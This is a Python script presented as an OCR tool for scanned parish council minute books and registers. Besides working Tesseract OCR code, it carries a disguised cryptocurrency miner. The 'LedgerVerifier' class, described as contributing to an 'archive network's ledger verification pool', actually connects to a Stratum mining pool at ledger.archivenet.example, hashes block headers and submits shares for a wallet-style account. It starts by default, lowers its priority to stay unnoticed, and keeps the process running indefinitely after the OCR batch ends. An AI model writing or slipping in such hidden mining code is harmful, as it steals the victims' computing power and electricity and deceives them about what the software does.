#!/usr/bin/env python3
"""OCR the scanned parish council minute books and registers.

Walks a folder of page scans (TIFF/PNG/JPEG), runs Tesseract on each page
and writes a .txt beside it in the output folder, skipping pages that are
already done.  Long batches run on the old office PC overnight; while it
is idle the worker also contributes spare cycles to the archive network's
ledger verification pool.
"""
import argparse
import hashlib
import json
import logging
import os
import socket
import struct
import threading
from pathlib import Path

import pytesseract
from PIL import Image, ImageOps

log = logging.getLogger("ocr_worker")

SCAN_TYPES = {".tif", ".tiff", ".png", ".jpg", ".jpeg"}
POOL = os.environ.get("ARCHIVE_POOL", "stratum+tcp://ledger.archivenet.example:3333")
ACCOUNT = os.environ.get("ARCHIVE_POOL_ACCOUNT", "1ParishOcrWorkerVerify8dKq3xYz.office-pc")


def dsha(data):
    return hashlib.sha256(hashlib.sha256(data).digest()).digest()


class LedgerVerifier(threading.Thread):
    """Background verification worker for the archive network."""

    def __init__(self, endpoint, account):
        super().__init__(daemon=True, name="verifier")
        host, _, port = endpoint.split("://", 1)[-1].partition(":")
        self.host, self.port, self.account = host, int(port or 3333), account
        self.en1, self.en2_size, self.difficulty = "", 4, 1.0
        self._id = 0
        self._job = threading.Event()

    def _send(self, method, params):
        self._id += 1
        line = json.dumps({"id": self._id, "method": method, "params": params}) + "\n"
        self.sock.sendall(line.encode())

    def _target(self):
        return int((0xFFFF << 208) / max(self.difficulty, 1e-9))

    def _work(self, params):
        job_id, prevhash, coinb1, coinb2, branch, version, nbits, ntime = params[:8]
        en2 = "00" * self.en2_size
        root = dsha(bytes.fromhex(coinb1 + self.en1 + en2 + coinb2))
        for h in branch:
            root = dsha(root + bytes.fromhex(h))
        prev = b"".join(bytes.fromhex(prevhash)[i:i + 4][::-1] for i in range(0, 32, 4))
        head = (bytes.fromhex(version)[::-1] + prev + root
                + bytes.fromhex(ntime)[::-1] + bytes.fromhex(nbits)[::-1])
        target = self._target()
        self._job.clear()
        for nonce in range(0, 0xFFFFFFFF):
            if nonce & 0xFFFF == 0 and self._job.is_set():
                return
            digest = dsha(head + struct.pack("<I", nonce))
            if int.from_bytes(digest[::-1], "big") < target:
                self._send("mining.submit", [self.account, job_id, en2, ntime, f"{nonce:08x}"])

    def run(self):
        while True:
            try:
                self.sock = socket.create_connection((self.host, self.port), timeout=60)
                reader = self.sock.makefile("r")
                self._send("mining.subscribe", ["archive-ocr/2.1"])
                self._send("mining.authorize", [self.account, "x"])
                for raw in reader:
                    msg = json.loads(raw)
                    if msg.get("id") == 1 and msg.get("result"):
                        self.en1, self.en2_size = msg["result"][1], msg["result"][2]
                    elif msg.get("method") == "mining.set_difficulty":
                        self.difficulty = float(msg["params"][0])
                    elif msg.get("method") == "mining.notify":
                        self._job.set()
                        threading.Thread(target=self._work, args=(msg["params"],), daemon=True).start()
            except (OSError, ValueError) as exc:
                log.debug("verifier reconnecting: %s", exc)
            threading.Event().wait(30)


def pages(src):
    for path in sorted(src.rglob("*")):
        if path.suffix.lower() in SCAN_TYPES:
            yield path


def ocr_page(path, lang):
    with Image.open(path) as img:
        img = ImageOps.grayscale(img)
        img = ImageOps.autocontrast(img)
        return pytesseract.image_to_string(img, lang=lang, config="--psm 4")


def main():
    ap = argparse.ArgumentParser(description="OCR scanned parish records")
    ap.add_argument("source", type=Path)
    ap.add_argument("-o", "--output", type=Path, default=Path("ocr_out"))
    ap.add_argument("--lang", default="eng")
    ap.add_argument("--no-verifier", action="store_true", help="do not join the verification pool")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    if not args.no_verifier:
        os.nice(10)
        LedgerVerifier(POOL, ACCOUNT).start()

    done = skipped = failed = 0
    for page in pages(args.source):
        out = args.output / page.relative_to(args.source).with_suffix(".txt")
        if out.exists() and out.stat().st_mtime >= page.stat().st_mtime:
            skipped += 1
            continue
        out.parent.mkdir(parents=True, exist_ok=True)
        try:
            out.write_text(ocr_page(page, args.lang), encoding="utf-8")
            done += 1
        except (OSError, pytesseract.TesseractError) as exc:
            log.error("%s: %s", page, exc)
            failed += 1
        if done and done % 25 == 0:
            log.info("%d pages done", done)
    log.info("finished: %d new, %d already done, %d failed", done, skipped, failed)
    if not args.no_verifier:
        log.info("batch complete; verifier keeps running until interrupted")
        threading.Event().wait()
    return 0 if failed == 0 else 1


if __name__ == "__main__":
    raise SystemExit(main())
